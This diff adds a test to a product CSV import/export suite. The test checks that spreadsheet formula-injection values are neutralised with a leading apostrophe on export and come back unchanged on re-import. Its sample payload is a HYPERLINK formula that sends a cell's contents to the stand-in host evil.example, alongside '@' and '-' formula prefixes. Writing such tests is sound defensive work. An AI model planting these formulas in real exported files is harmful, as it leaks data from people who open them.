@@ -264,4 +264,26 @@ describe.each(BACKENDS)('the product CSV with variants on $label', (backend) => 
     const full = await product(made._id);
     expect(full.variants).toEqual([expect.objectContaining({ _id: made._id, options: {}, price: 42.5, stock: 6, forSale: true })]);
   });
+
+  it('writes a cell a spreadsheet would run as text, and imports its own export of it unchanged', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
+    const edit = {
+      name: formula,
+      description: '@SUM(1+1)',
+      category: plain.category,
+      price: plain.price,
+      imageUrl: plain.imageUrl,
+      tags: ['-2+3'],
+    };
+    expect((await request(svc.app).put(`/api/admin/products/${plain._id}`).set(admin).send(edit)).status).toBe(200);
+    const csv = await exportCsv();
+    const row = rowsOf(csv).find((r) => r.id === plain._id)!;
+    expect([row.name, row.description, row.tags]).toEqual([`'${formula}`, "'@SUM(1+1)", "'-2+3"]);
+    // Quoted too, so the apostrophe reaches the spreadsheet as it is.
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click"")"`);
+    const res = await importCsv(csv);
+    expect(ProductImportReport.parse(res.body)).toMatchObject({ imported: true, updated: 0 });
+    expect((await product(plain._id)).name).toBe(formula);
+    expect(await exportCsv()).toBe(csv);
+  });
 });
